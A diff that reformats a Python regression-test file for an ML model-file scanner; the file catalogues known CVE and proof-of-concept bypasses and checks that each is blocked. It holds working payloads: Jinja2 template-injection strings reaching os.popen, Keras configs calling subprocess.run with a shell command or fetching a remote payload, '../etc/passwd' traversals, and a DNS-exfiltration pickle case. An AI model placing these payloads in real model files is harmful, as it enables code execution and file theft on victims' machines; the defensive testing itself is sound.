 TORCH_CASES: tuple[Bypass, ...] = (
-    Bypass("pytorch-CVE-2026-24747-setitem-on-tensor", WEIGHTS_ONLY_2026,
-           "SETITEM applied to a rebuilt tensor, not a dict: heap corruption in the weights_only unpickler",
-           _torch_data_pkl_edited(_setitem_on_tensor, "setitem.pt"), LOADER_ATTACK, Severity.HIGH, BLOCKED),
-    Bypass("pytorch-CVE-2026-24747-storage-size-mismatch", WEIGHTS_ONLY_2026,
-           "a storage declared with 2**20 elements backed by 8 bytes of data",
-           _torch_data_pkl_edited(_storage_larger_than_data, "storage.pt"), LOADER_ATTACK, Severity.HIGH, BLOCKED),
-    Bypass("pytorch-CVE-2025-32434-torchscript-setstate",
-           "CVE-2025-32434 (GHSA-53q9-r3pm-6pq6); Jian Zhou and Lishuo Song, 'Safe Harbor or Hostile Waters: Unveiling "
-           "the Hidden Perils of the TorchScript Engine in PyTorch' (Black Hat USA 2025), "
-           "https://github.com/pytorch/pytorch/security/advisories/GHSA-53q9-r3pm-6pq6",
-           "torch.load(weights_only=True) hands a TorchScript archive to torch.jit.load, whose __setstate__ code runs "
-           "file operations on load",
-           _torchscript_setstate_canary, frozenset({"torchscript.*", "pytorch.*", "torch.*"})),
+    Bypass(
+        "pytorch-CVE-2026-24747-setitem-on-tensor",
+        WEIGHTS_ONLY_2026,
+        "SETITEM applied to a rebuilt tensor, not a dict: heap corruption in the weights_only unpickler",
+        _torch_data_pkl_edited(_setitem_on_tensor, "setitem.pt"),
+        LOADER_ATTACK,
+        Severity.HIGH,
+        BLOCKED,
+    ),
+    Bypass(
+        "pytorch-CVE-2026-24747-storage-size-mismatch",
+        WEIGHTS_ONLY_2026,
+        "a storage declared with 2**20 elements backed by 8 bytes of data",
+        _torch_data_pkl_edited(_storage_larger_than_data, "storage.pt"),
+        LOADER_ATTACK,
+        Severity.HIGH,
+        BLOCKED,
+    ),
+    Bypass(
+        "pytorch-CVE-2025-32434-torchscript-setstate",
+        "CVE-2025-32434 (GHSA-53q9-r3pm-6pq6); Jian Zhou and Lishuo Song, 'Safe Harbor or Hostile Waters: Unveiling "
+        "the Hidden Perils of the TorchScript Engine in PyTorch' (Black Hat USA 2025), "
+        "https://github.com/pytorch/pytorch/security/advisories/GHSA-53q9-r3pm-6pq6",
+        "torch.load(weights_only=True) hands a TorchScript archive to torch.jit.load, whose __setstate__ code runs "
+        "file operations on load",
+        _torchscript_setstate_canary,
+        frozenset({"torchscript.*", "pytorch.*", "torch.*"}),
+    ),
 )
 
 
@@ -1192,65 +1435,143 @@ def _torch_module_wrapper(folder: Path) -> Path:
     buffer = io.BytesIO()
     torch.save({"hook": SystemCall(SHELL)}, buffer)
     config = {"name": "torch_module_wrapper", "trainable": True, "module": base64.b64encode(buffer.getvalue()).decode()}
-    return builders.keras3_archive(folder, [_keras_layer("keras.layers", "TorchModuleWrapper", config)], "torch_wrapper.keras")
+    return builders.keras3_archive(
+        folder, [_keras_layer("keras.layers", "TorchModuleWrapper", config)], "torch_wrapper.keras"
+    )
 
 
 KERAS_CASES: tuple[Bypass, ...] = (
-    Bypass("keras-CVE-2024-3660-lambda-bytecode",
-           "CVE-2024-3660, https://nvd.nist.gov/vuln/detail/CVE-2024-3660",
-           "marshalled Python bytecode in a Lambda layer of a .keras file", builders.keras3_lambda,
-           frozenset({"keras.lambda-layer"})),
-    Bypass("keras-CVE-2025-1550-arbitrary-module",
-           "CVE-2025-1550 (GHSA-48g7-3x6r-xfhp), https://github.com/keras-team/keras/security/advisories/GHSA-48g7-3x6r-xfhp",
-           "config.json names module 'subprocess', class_name 'run': Keras imports and calls it despite safe_mode",
-           _keras([_keras_layer("subprocess", "run", {"name": "run"},
-                                inbound_nodes=[{"args": [["sh", "-c", SHELL]], "kwargs": {}}])], "module.keras"),
-           KERAS),
-    Bypass("keras-CVE-2025-8747-get-file",
-           "CVE-2025-8747 (GHSA-c9rc-mg46-23w3); JFrog, 'Is TensorFlow Keras Safe Mode Actually Safe?', "
-           "https://jfrog.com/blog/keras-safe_mode-bypass-vulnerability",
-           "a Lambda whose function is keras.utils.get_file, an allowed module, downloading over a local file",
-           _keras([_keras_layer("keras.layers", "Lambda", {
-               "name": "fetch", "function": _function_ref("keras.utils", "get_file"),
-               "arguments": {"origin": "https://example.invalid/payload", "cache_dir": "/tmp", "cache_subdir": ""},
-           })], "get_file.keras"),
-           KERAS),
-    Bypass("keras-CVE-2025-9906-load-model-unsafe",
-           "CVE-2025-9906, https://github.com/io-no/CVE-Reports/issues/5",
-           "a Lambda calling keras.models.load_model(other file, safe_mode=False)",
-           _keras([_keras_layer("keras.layers", "Lambda", {
-               "name": "unsafe_deserialization", "function": _function_ref("keras.models", "load_model"),
-               "arguments": {"safe_mode": False},
-           }, inbound_nodes=[{"args": [], "kwargs": {"inputs": "/tmp/other/model.keras"}}])], "load_model.keras"),
-           KERAS),
-    Bypass("keras-CVE-2025-9905-hdf5-lambda",
-           "CVE-2025-9905, https://github.com/io-no/CVE-Reports/issues/7",
-           "safe_mode is ignored for HDF5: a Lambda in an .h5 model config", builders.keras_h5_lambda,
-           frozenset({"keras.lambda-layer"})),
-    Bypass("keras-CVE-2025-49655-torch-module-wrapper",
-           "CVE-2025-49655 (keras 3.11.0-3.11.2; detected by ModelAudit PR #600), "
-           "https://github.com/promptfoo/modelaudit/pull/600",
-           "TorchModuleWrapper's config carries a base64 torch.save pickle that from_config torch.loads",
-           _torch_module_wrapper, frozenset({*KERAS, *DANGEROUS})),
-    Bypass("keras-CVE-2025-12058-stringlookup-vocabulary-file",
-           "CVE-2025-12058 (GHSA-qg93-c7p6-gg7f), https://github.com/keras-team/keras/security/advisories/GHSA-qg93-c7p6-gg7f",
-           "StringLookup's vocabulary is a path: loading reads a local file (or fetches a URL) despite safe_mode",
-           _keras([_keras_layer("keras.layers", "StringLookup", {
-               "name": "lookup", "vocabulary": "/etc/passwd", "num_oov_indices": 1, "output_mode": "int",
-           })], "lookup.keras"),
-           frozenset({*KERAS, "keras.*"})),
-    Bypass("keras-CVE-2026-12479-layer-name-traversal",
-           "CVE-2026-12479, https://aithreatalert.com/cve/CVE-2026-12479",
-           "a layer name with '../' makes the saving store write outside its temporary folder",
-           _keras([_keras3_dense_named("../../../../tmp/bastion-bypass-canary")], "traversal.keras"),
-           frozenset({*KERAS, "keras.*", "archive.path-traversal"})),
-    Bypass("keras-CVE-2026-1462-tfsmlayer",
-           "CVE-2026-1462, https://justappsec.com/news/2026-04-keras-safe-mode-bypass",
-           "TFSMLayer loads an attacker-chosen external SavedModel named in config.json",
-           _keras([_keras_layer("keras.layers", "TFSMLayer", {
-               "name": "tfsm", "filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve", "trainable": False,
-           })], "tfsm.keras"),
-           KERAS),
+    Bypass(
+        "keras-CVE-2024-3660-lambda-bytecode",
+        "CVE-2024-3660, https://nvd.nist.gov/vuln/detail/CVE-2024-3660",
+        "marshalled Python bytecode in a Lambda layer of a .keras file",
+        builders.keras3_lambda,
+        frozenset({"keras.lambda-layer"}),
+    ),
+    Bypass(
+        "keras-CVE-2025-1550-arbitrary-module",
+        "CVE-2025-1550 (GHSA-48g7-3x6r-xfhp), https://github.com/keras-team/keras/security/advisories/GHSA-48g7-3x6r-xfhp",
+        "config.json names module 'subprocess', class_name 'run': Keras imports and calls it despite safe_mode",
+        _keras(
+            [
+                _keras_layer(
+                    "subprocess", "run", {"name": "run"}, inbound_nodes=[{"args": [["sh", "-c", SHELL]], "kwargs": {}}]
+                )
+            ],
+            "module.keras",
+        ),
+        KERAS,
+    ),
+    Bypass(
+        "keras-CVE-2025-8747-get-file",
+        "CVE-2025-8747 (GHSA-c9rc-mg46-23w3); JFrog, 'Is TensorFlow Keras Safe Mode Actually Safe?', "
+        "https://jfrog.com/blog/keras-safe_mode-bypass-vulnerability",
+        "a Lambda whose function is keras.utils.get_file, an allowed module, downloading over a local file",
+        _keras(
+            [
+                _keras_layer(
+                    "keras.layers",
+                    "Lambda",
+                    {
+                        "name": "fetch",
+                        "function": _function_ref("keras.utils", "get_file"),
+                        "arguments": {
+                            "origin": "https://example.invalid/payload",
+                            "cache_dir": "/tmp",
+                            "cache_subdir": "",
+                        },
+                    },
+                )
+            ],
+            "get_file.keras",
+        ),
+        KERAS,
+    ),
+    Bypass(
+        "keras-CVE-2025-9906-load-model-unsafe",
+        "CVE-2025-9906, https://github.com/io-no/CVE-Reports/issues/5",
+        "a Lambda calling keras.models.load_model(other file, safe_mode=False)",
+        _keras(
+            [
+                _keras_layer(
+                    "keras.layers",
+                    "Lambda",
+                    {
+                        "name": "unsafe_deserialization",
+                        "function": _function_ref("keras.models", "load_model"),
+                        "arguments": {"safe_mode": False},
+                    },
+                    inbound_nodes=[{"args": [], "kwargs": {"inputs": "/tmp/other/model.keras"}}],
+                )
+            ],
+            "load_model.keras",
+        ),
+        KERAS,
+    ),
+    Bypass(
+        "keras-CVE-2025-9905-hdf5-lambda",
+        "CVE-2025-9905, https://github.com/io-no/CVE-Reports/issues/7",
+        "safe_mode is ignored for HDF5: a Lambda in an .h5 model config",
+        builders.keras_h5_lambda,
+        frozenset({"keras.lambda-layer"}),
+    ),
+    Bypass(
+        "keras-CVE-2025-49655-torch-module-wrapper",
+        "CVE-2025-49655 (keras 3.11.0-3.11.2; detected by ModelAudit PR #600), "
+        "https://github.com/promptfoo/modelaudit/pull/600",
+        "TorchModuleWrapper's config carries a base64 torch.save pickle that from_config torch.loads",
+        _torch_module_wrapper,
+        frozenset({*KERAS, *DANGEROUS}),
+    ),
+    Bypass(
+        "keras-CVE-2025-12058-stringlookup-vocabulary-file",
+        "CVE-2025-12058 (GHSA-qg93-c7p6-gg7f), https://github.com/keras-team/keras/security/advisories/GHSA-qg93-c7p6-gg7f",
+        "StringLookup's vocabulary is a path: loading reads a local file (or fetches a URL) despite safe_mode",
+        _keras(
+            [
+                _keras_layer(
+                    "keras.layers",
+                    "StringLookup",
+                    {
+                        "name": "lookup",
+                        "vocabulary": "/etc/passwd",
+                        "num_oov_indices": 1,
+                        "output_mode": "int",
+                    },
+                )
+            ],
+            "lookup.keras",
+        ),
+        frozenset({*KERAS, "keras.*"}),
+    ),
+    Bypass(
+        "keras-CVE-2026-12479-layer-name-traversal",
+        "CVE-2026-12479, https://aithreatalert.com/cve/CVE-2026-12479",
+        "a layer name with '../' makes the saving store write outside its temporary folder",
+        _keras([_keras3_dense_named("../../../../tmp/bastion-bypass-canary")], "traversal.keras"),
+        frozenset({*KERAS, "keras.*", "archive.path-traversal"}),
+    ),
+    Bypass(
+        "keras-CVE-2026-1462-tfsmlayer",
+        "CVE-2026-1462, https://justappsec.com/news/2026-04-keras-safe-mode-bypass",
+        "TFSMLayer loads an attacker-chosen external SavedModel named in config.json",
+        _keras(
+            [
+                _keras_layer(
+                    "keras.layers",
+                    "TFSMLayer",
+                    {
+                        "name": "tfsm",
+                        "filepath": "/tmp/attacker_savedmodel",
+                        "call_endpoint": "serve",
+                        "trainable": False,
+                    },
+                )
+            ],
+            "tfsm.keras",
+        ),
+        KERAS,
+    ),
 )
 
 
@@ -1262,38 +1583,62 @@ def test_keras_safe_mode_bypass_is_blocked(case: Bypass, tmp_path: Path) -> None
 # -- GGUF chat templates (Jinja2 SSTI) ----------------------------------------------------------------
 
 GGUF_CASES: tuple[Bypass, ...] = (
-    Bypass("gguf-CVE-2024-34359-llama-cpp-python-ssti",
-           "CVE-2024-34359 (GHSA-56xg-wfcc-g829), https://github.com/abetlen/llama-cpp-python/security/advisories/GHSA-56xg-wfcc-g829",
-           "tokenizer.chat_template walks __subclasses__ to reach os.popen when rendered",
-           lambda folder: builders.gguf_file(folder, (
-               "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
-               "{{ c()._module.__builtins__['__import__']('os').popen('" + SHELL + "').read() }}{% endif %}{% endfor %}"
-           ), "model.gguf"),
-           frozenset({"gguf.template-injection"})),
-    Bypass("gguf-CVE-2026-5760-sglang-ssti",
-           "CVE-2026-5760 (CERT/CC VU#915947), https://justappsec.com/news/2026-04-sglang-gguf-ssti-rce",
-           "a chat template reaching os through a Jinja global's __globals__, rendered unsandboxed by SGLang",
-           lambda folder: builders.gguf_file(folder, builders.BENIGN_CHAT_TEMPLATE + (
-               "{{ cycler.__init__.__globals__.os.popen('" + SHELL + "').read() }}"
-           ), "rerank.gguf"),
-           frozenset({"gguf.template-injection"})),
-    Bypass("gguf-ssti-attr-filter-hex-escapes",
-           "PayloadsAllTheThings, 'Server Side Template Injection - Python: Jinja2 filter bypass', "
-           "https://github.com/swisskyrepo/PayloadsAllTheThings/blob/master/Server%20Side%20Template%20Injection/Python.md",
-           "dunder names reached with the |attr filter and \\x5f escapes, so no '__' or '.' appears in the template",
-           lambda folder: builders.gguf_file(folder, (
-               "{% set s = ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')"
-               "|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() %}{{ s }}"
-           ), "attr.gguf"),
-           frozenset({"gguf.template-injection"})),
-    Bypass("gguf-ssti-concatenated-dunder",
-           "PayloadsAllTheThings, 'Server Side Template Injection - Python: Jinja2 filter bypass', "
-           "https://github.com/swisskyrepo/PayloadsAllTheThings/blob/master/Server%20Side%20Template%20Injection/Python.md",
-           "dunder names built by string concatenation ('__cla' ~ 'ss__') and read with the [] operator",
-           lambda folder: builders.gguf_file(folder, (
-               "{% set u = '_' ~ '_' %}{{ ((()[u ~ 'cla' ~ 'ss' ~ u])[u ~ 'ba' ~ 'se' ~ u])[u ~ 'subcla' ~ 'sses' ~ u]() }}"
-           ), "concat.gguf"),
-           frozenset({"gguf.template-injection"})),
+    Bypass(
+        "gguf-CVE-2024-34359-llama-cpp-python-ssti",
+        "CVE-2024-34359 (GHSA-56xg-wfcc-g829), https://github.com/abetlen/llama-cpp-python/security/advisories/GHSA-56xg-wfcc-g829",
+        "tokenizer.chat_template walks __subclasses__ to reach os.popen when rendered",
+        lambda folder: builders.gguf_file(
+            folder,
+            (
+                "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
+                "{{ c()._module.__builtins__['__import__']('os').popen('"
+                + SHELL
+                + "').read() }}{% endif %}{% endfor %}"
+            ),
+            "model.gguf",
+        ),
+        frozenset({"gguf.template-injection"}),
+    ),
+    Bypass(
+        "gguf-CVE-2026-5760-sglang-ssti",
+        "CVE-2026-5760 (CERT/CC VU#915947), https://justappsec.com/news/2026-04-sglang-gguf-ssti-rce",
+        "a chat template reaching os through a Jinja global's __globals__, rendered unsandboxed by SGLang",
+        lambda folder: builders.gguf_file(
+            folder,
+            builders.BENIGN_CHAT_TEMPLATE + ("{{ cycler.__init__.__globals__.os.popen('" + SHELL + "').read() }}"),
+            "rerank.gguf",
+        ),
+        frozenset({"gguf.template-injection"}),
+    ),
+    Bypass(
+        "gguf-ssti-attr-filter-hex-escapes",
+        "PayloadsAllTheThings, 'Server Side Template Injection - Python: Jinja2 filter bypass', "
+        "https://github.com/swisskyrepo/PayloadsAllTheThings/blob/master/Server%20Side%20Template%20Injection/Python.md",
+        "dunder names reached with the |attr filter and \\x5f escapes, so no '__' or '.' appears in the template",
+        lambda folder: builders.gguf_file(
+            folder,
+            (
+                "{% set s = ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')"
+                "|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() %}{{ s }}"
+            ),
+            "attr.gguf",
+        ),
+        frozenset({"gguf.template-injection"}),
+    ),
+    Bypass(
+        "gguf-ssti-concatenated-dunder",
+        "PayloadsAllTheThings, 'Server Side Template Injection - Python: Jinja2 filter bypass', "
+        "https://github.com/swisskyrepo/PayloadsAllTheThings/blob/master/Server%20Side%20Template%20Injection/Python.md",
+        "dunder names built by string concatenation ('__cla' ~ 'ss__') and read with the [] operator",
+        lambda folder: builders.gguf_file(
+            folder,
+            (
+                "{% set u = '_' ~ '_' %}{{ ((()[u ~ 'cla' ~ 'ss' ~ u])[u ~ 'ba' ~ 'se' ~ u])[u ~ 'subcla' ~ 'sses' ~ u]() }}"
+            ),
+            "concat.gguf",
+        ),
+        frozenset({"gguf.template-injection"}),
+    ),
 )
 
 
@@ -1348,24 +1693,41 @@ ORT_SPARSE = (
 )
 
 ONNX_CASES: tuple[Bypass, ...] = (
-    Bypass("onnx-ort-sparse-initializer-external-data", ORT_SPARSE,
-           "the traversal sits in a GraphProto.sparse_initializer's values, which checks of initializers skip",
-           _onnx_sparse_external("initializer"), frozenset({"onnx.external-data-traversal"})),
-    Bypass("onnx-ort-sparse-constant-external-data", ORT_SPARSE,
-           "the traversal sits in a Constant node's sparse_value attribute",
-           _onnx_sparse_external("constant"), frozenset({"onnx.external-data-traversal"})),
-    Bypass("onnx-CVE-2022-25882-dotdot-location", "CVE-2022-25882, https://nvd.nist.gov/vuln/detail/CVE-2022-25882",
-           "external_data location '../../../etc/passwd'",
-           lambda folder: builders.onnx_external_data(folder, "../../../etc/passwd", "model.onnx"),
-           frozenset({"onnx.external-data-traversal"})),
-    Bypass("onnx-CVE-2024-27318-inner-dotdot", "CVE-2024-27318, https://nvd.nist.gov/vuln/detail/CVE-2024-27318",
-           "the prefix check is bypassed by 'junk/../../' in the middle of the location",
-           lambda folder: builders.onnx_external_data(folder, "junk/../../../etc/passwd", "model.onnx"),
-           frozenset({"onnx.external-data-traversal"})),
-    Bypass("onnx-CVE-2026-34447-symlinked-weights",
-           "CVE-2026-34447 / CVE-2026-27489, https://nvd.nist.gov/vuln/detail/CVE-2026-34447",
-           "the external data file inside the model folder is a symlink to a file outside it",
-           _onnx_symlinked_weights, frozenset({"onnx.external-data-traversal", "archive.link"})),
+    Bypass(
+        "onnx-ort-sparse-initializer-external-data",
+        ORT_SPARSE,
+        "the traversal sits in a GraphProto.sparse_initializer's values, which checks of initializers skip",
+        _onnx_sparse_external("initializer"),
+        frozenset({"onnx.external-data-traversal"}),
+    ),
+    Bypass(
+        "onnx-ort-sparse-constant-external-data",
+        ORT_SPARSE,
+        "the traversal sits in a Constant node's sparse_value attribute",
+        _onnx_sparse_external("constant"),
+        frozenset({"onnx.external-data-traversal"}),
+    ),
+    Bypass(
+        "onnx-CVE-2022-25882-dotdot-location",
+        "CVE-2022-25882, https://nvd.nist.gov/vuln/detail/CVE-2022-25882",
+        "external_data location '../../../etc/passwd'",
+        lambda folder: builders.onnx_external_data(folder, "../../../etc/passwd", "model.onnx"),
+        frozenset({"onnx.external-data-traversal"}),
+    ),
+    Bypass(
+        "onnx-CVE-2024-27318-inner-dotdot",
+        "CVE-2024-27318, https://nvd.nist.gov/vuln/detail/CVE-2024-27318",
+        "the prefix check is bypassed by 'junk/../../' in the middle of the location",
+        lambda folder: builders.onnx_external_data(folder, "junk/../../../etc/passwd", "model.onnx"),
+        frozenset({"onnx.external-data-traversal"}),
+    ),
+    Bypass(
+        "onnx-CVE-2026-34447-symlinked-weights",
+        "CVE-2026-34447 / CVE-2026-27489, https://nvd.nist.gov/vuln/detail/CVE-2026-34447",
+        "the external data file inside the model folder is a symlink to a file outside it",
+        _onnx_symlinked_weights,
+        frozenset({"onnx.external-data-traversal", "archive.link"}),
+    ),
 )
 
 
@@ -1389,7 +1751,9 @@ def _node(name: str, op: str, *inputs: str, attrs: bytes = b"") -> bytes:
 def _string_const(name: str, value: bytes) -> bytes:
     # AttrValue.tensor (8) = TensorProto{dtype=1: DT_STRING (7), tensor_shape=2, string_val=8}.
     tensor = builders.pb_int(1, 7) + builders.pb_bytes(2, b"") + builders.pb_bytes(8, value)
-    return _node(name, "Const", attrs=_attr("dtype", builders.pb_int(6, 7)) + _attr("value", builders.pb_bytes(8, tensor)))
+    return _node(
+        name, "Const", attrs=_attr("dtype", builders.pb_int(6, 7)) + _attr("value", builders.pb_bytes(8, tensor))
+    )
 
 
 def _saved_model(*nodes: bytes) -> Callable[[Path], Path]:
@@ -1405,42 +1769,66 @@ def _pbtxt_write_file(folder: Path) -> Path:
     path = target / "saved_model.pbtxt"
     path.write_text(
         "saved_model_schema_version: 1\n"
-        "meta_graphs {\n  meta_info_def { tags: \"serve\" tensorflow_version: \"2.21.0\" }\n  graph_def {\n"
-        "    node { name: \"path\" op: \"Const\" }\n    node { name: \"data\" op: \"Const\" }\n"
-        "    node { name: \"write\" op: \"WriteFile\" input: \"path\" input: \"data\" }\n  }\n}\n"
+        'meta_graphs {\n  meta_info_def { tags: "serve" tensorflow_version: "2.21.0" }\n  graph_def {\n'
+        '    node { name: "path" op: "Const" }\n    node { name: "data" op: "Const" }\n'
+        '    node { name: "write" op: "WriteFile" input: "path" input: "data" }\n  }\n}\n'
     )
     return path
 
 
-_INNER_WRITE_GRAPH = builders.tf_graph([_node("path", "Const"), _node("data", "Const"), _node("w", "WriteFile", "path", "data")])
+_INNER_WRITE_GRAPH = builders.tf_graph(
+    [_node("path", "Const"), _node("data", "Const"), _node("w", "WriteFile", "path", "data")]
+)
 
 TF_CASES: tuple[Bypass, ...] = (
-    Bypass("tf-modelscan-printv2-file-stream",
-           "ModelScan bypass PoC 'PrintV2 output_stream', https://huggingface.co/xandramax/modelscan-savedmodel-bypass-poc",
-           "PrintV2 with output_stream 'file:///...' writes attacker text to an attacker path",
-           _saved_model(_node("print", "PrintV2", "x", attrs=_attr("output_stream", builders.pb_bytes(2, "file:///tmp/canary")))),
-           TF_OPS),
-    Bypass("tf-modelscan-savev2-constant-path",
-           "ModelScan bypass PoC 'SaveV2', https://huggingface.co/wladislax/tensorflow-savedmodel-modelscan-bypass",
-           "SaveV2 writes checkpoint files to an absolute path fixed in a constant (a saver's path comes from a placeholder)",
-           _saved_model(_string_const("evil_path", b"/tmp/bastion-bypass-canary"), _string_const("names", b"pwned"),
-                        _string_const("slices", b""), _node("evil_save", "SaveV2", "evil_path", "names", "slices", "bias")),
-           TF_OPS),
-    Bypass("tf-modelscan-wholefilereader",
-           "ModelScan bypass PoC 'WholeFileReaderV2', https://huggingface.co/codejupiter/tf-savedmodel-wholefilereader-leak-poc",
-           "WholeFileReaderV2 and ReaderReadV2 read a host file",
-           _saved_model(_node("reader", "WholeFileReaderV2"), _node("queue", "FIFOQueueV2"),
-                        _node("read", "ReaderReadV2", "reader", "queue")),
-           TF_OPS),
-    Bypass("tf-modelscan-pbtxt-writefile",
-           "ModelScan bypass PoC 'saved_model.pbtxt', https://huggingface.co/pragnyanramtha/tf-savedmodel-pbtxt-writefile-modelscan-bypass",
-           "the same graph as text-format saved_model.pbtxt, which TensorFlow loads and scanners skip",
-           _pbtxt_write_file, TF_OPS, Severity.HIGH, frozenset({Verdict.FAIL})),
-    Bypass("tf-modelscan-nested-datasetfromgraph",
-           "ModelScan bypass PoC 'nested DatasetFromGraph WriteFile', https://huggingface.co/MediumIQ/tfhunt-savedmodel-nested-writefile",
-           "a WriteFile inside a GraphDef serialised into a string constant fed to DatasetFromGraph",
-           _saved_model(_string_const("inner_graph", _INNER_WRITE_GRAPH), _node("ds", "DatasetFromGraph", "inner_graph")),
-           TF_OPS),
+    Bypass(
+        "tf-modelscan-printv2-file-stream",
+        "ModelScan bypass PoC 'PrintV2 output_stream', https://huggingface.co/xandramax/modelscan-savedmodel-bypass-poc",
+        "PrintV2 with output_stream 'file:///...' writes attacker text to an attacker path",
+        _saved_model(
+            _node("print", "PrintV2", "x", attrs=_attr("output_stream", builders.pb_bytes(2, "file:///tmp/canary")))
+        ),
+        TF_OPS,
+    ),
+    Bypass(
+        "tf-modelscan-savev2-constant-path",
+        "ModelScan bypass PoC 'SaveV2', https://huggingface.co/wladislax/tensorflow-savedmodel-modelscan-bypass",
+        "SaveV2 writes checkpoint files to an absolute path fixed in a constant (a saver's path comes from a placeholder)",
+        _saved_model(
+            _string_const("evil_path", b"/tmp/bastion-bypass-canary"),
+            _string_const("names", b"pwned"),
+            _string_const("slices", b""),
+            _node("evil_save", "SaveV2", "evil_path", "names", "slices", "bias"),
+        ),
+        TF_OPS,
+    ),
+    Bypass(
+        "tf-modelscan-wholefilereader",
+        "ModelScan bypass PoC 'WholeFileReaderV2', https://huggingface.co/codejupiter/tf-savedmodel-wholefilereader-leak-poc",
+        "WholeFileReaderV2 and ReaderReadV2 read a host file",
+        _saved_model(
+            _node("reader", "WholeFileReaderV2"),
+            _node("queue", "FIFOQueueV2"),
+            _node("read", "ReaderReadV2", "reader", "queue"),
+        ),
+        TF_OPS,
+    ),
+    Bypass(
+        "tf-modelscan-pbtxt-writefile",
+        "ModelScan bypass PoC 'saved_model.pbtxt', https://huggingface.co/pragnyanramtha/tf-savedmodel-pbtxt-writefile-modelscan-bypass",
+        "the same graph as text-format saved_model.pbtxt, which TensorFlow loads and scanners skip",
+        _pbtxt_write_file,
+        TF_OPS,
+        Severity.HIGH,
+        frozenset({Verdict.FAIL}),
+    ),
+    Bypass(
+        "tf-modelscan-nested-datasetfromgraph",
+        "ModelScan bypass PoC 'nested DatasetFromGraph WriteFile', https://huggingface.co/MediumIQ/tfhunt-savedmodel-nested-writefile",
+        "a WriteFile inside a GraphDef serialised into a string constant fed to DatasetFromGraph",
+        _saved_model(_string_const("inner_graph", _INNER_WRITE_GRAPH), _node("ds", "DatasetFromGraph", "inner_graph")),
+        TF_OPS,
+    ),
 )
 
 
@@ -1468,10 +1856,14 @@ def _npy_dns_exfiltration(folder: Path) -> Path:
 
 
 NUMPY_CASES: tuple[Bypass, ...] = (
-    Bypass("numpy-GHSA-hgrh-qx5j-jfwx-object-array-network",
-           f"GHSA-hgrh-qx5j-jfwx, {PICKLESCAN}GHSA-hgrh-qx5j-jfwx",
-           "an object-dtype .npy whose pickle calls ssl.get_server_certificate (DNS exfiltration)",
-           _npy_dns_exfiltration, DANGEROUS, Severity.CRITICAL),
+    Bypass(
+        "numpy-GHSA-hgrh-qx5j-jfwx-object-array-network",
+        f"GHSA-hgrh-qx5j-jfwx, {PICKLESCAN}GHSA-hgrh-qx5j-jfwx",
+        "an object-dtype .npy whose pickle calls ssl.get_server_certificate (DNS exfiltration)",
+        _npy_dns_exfiltration,
+        DANGEROUS,
+        Severity.CRITICAL,
+    ),
 )
 
 
@@ -1481,8 +1873,17 @@ def test_numpy_object_array_bypass_is_blocked(case: Bypass, tmp_path: Path) -> N
 
 
 ALL_CASES = (
-    PICKLESCAN_CASES + ARCHIVE_CASES + NULLIFAI_CASES + FICKLING_CASES + MODELSCAN_CASES + TORCH_CASES + KERAS_CASES
-    + GGUF_CASES + ONNX_CASES + TF_CASES + NUMPY_CASES
+    PICKLESCAN_CASES
+    + ARCHIVE_CASES
+    + NULLIFAI_CASES
+    + FICKLING_CASES
+    + MODELSCAN_CASES
+    + TORCH_CASES
+    + KERAS_CASES
+    + GGUF_CASES
+    + ONNX_CASES
+    + TF_CASES
+    + NUMPY_CASES
 )
 
 
